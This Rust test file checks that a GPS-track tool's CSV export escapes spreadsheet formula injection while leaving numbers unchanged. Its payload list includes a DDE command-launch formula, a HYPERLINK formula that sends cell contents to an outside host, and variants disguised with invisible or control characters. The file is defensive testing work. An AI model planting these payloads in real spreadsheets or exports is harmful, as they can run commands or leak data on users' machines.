//! Tables: text that a spreadsheet would run stays text, numbers stay numbers.

use lightfoot::report::writer;

use crate::{lightfoot, names, report};

const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u{200e}=1+1",
    "\u{1b}=1+1",
    "a\",=1+1,\"b",
    "a\n=1+1",
    "a\r\n=1+1",
];

fn cells(csv: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let heading = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    (heading, rows)
}

/// Signs that begin a formula, those of East Asian keyboards included.
const SIGNS: &[char] =
    &['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// Whether a spreadsheet may take a cell for a formula: some look behind what is not seen.
fn runs(cell: &str) -> bool {
    let unseen =
        |c: char| c.is_whitespace() || ('\u{200b}'..='\u{200f}').contains(&c) || c == '\u{feff}';
    cell.starts_with(SIGNS) || cell.trim_start_matches(unseen).starts_with(SIGNS)
}

/// Parses a table and compares it with the same rows as objects: no formula, no number changed.
/// Gives the number of rows and of texts that were guarded.
pub fn check(written: &str, json: &str) -> (usize, usize) {
    let objects: Vec<serde_json::Map<String, serde_json::Value>> =
        serde_json::from_str(json).unwrap();
    let (heading, rows) = cells(written);
    assert_eq!(rows.len(), objects.len(), "no text broke a row");
    let mut guarded = 0;
    for (row, object) in rows.iter().zip(&objects) {
        assert_eq!(row.len(), heading.len());
        for (name, cell) in heading.iter().zip(row) {
            match &object[name] {
                serde_json::Value::Number(number) => {
                    let (shown, value): (f64, f64) =
                        (cell.parse().unwrap(), number.as_f64().unwrap());
                    assert_eq!(shown, value, "{name}");
                }
                serde_json::Value::Null => assert_eq!(cell, "", "{name}"),
                _ => {
                    assert!(!runs(cell), "{name}: {cell:?}");
                    assert!(!cell.chars().any(char::is_control), "{name}: {cell:?}");
                    guarded += usize::from(cell.starts_with('\''));
                }
            }
        }
    }
    (rows.len(), guarded)
}

#[test]
fn no_cell_is_a_formula_and_numbers_are_untouched() {
    let here = tempfile::tempdir().unwrap();
    let texts: Vec<String> = FORMULAS.iter().map(|f| (*f).to_owned()).collect();
    names::write(&here.path().join("runs"), &texts);
    let report = report(&[here.path().join("runs")]);
    let written = writer("csv").unwrap().text(&report).unwrap();
    let json = writer("json").unwrap().text(&report).unwrap();
    let (rows, guarded) = check(&written, &json);
    assert_eq!(rows, 3 * FORMULAS.len(), "no text broke a row");
    assert!(guarded >= FORMULAS.len(), "device names were quoted: {guarded}");
}

#[test]
fn raw_text_is_written_when_it_is_asked_for() {
    let here = tempfile::tempdir().unwrap();
    std::fs::write(here.path().join("a.gpx"), names::gpx(0, "=1+1")).unwrap();
    let export = |arguments: &[&str]| {
        let run =
            lightfoot(here.path()).args(["export", "a.gpx"]).args(arguments).output().unwrap();
        (run.status.code(), String::from_utf8(run.stdout).unwrap())
    };
    let device = |text: &str| {
        let (heading, rows) = cells(text);
        rows[0][heading.iter().position(|h| h == "device").unwrap()].clone()
    };
    let (code, safe) = export(&[]);
    assert_eq!((code, device(&safe).as_str()), (Some(0), "'=1+1"));
    let (code, raw) = export(&["--raw-csv"]);
    assert_eq!((code, device(&raw).as_str()), (Some(0), "=1+1"));
    assert_eq!(export(&["--raw-csv", "--format", "json"]).0, Some(1));
    assert_eq!(export(&["--raw-csv", "--gpx"]).0, Some(2));
}
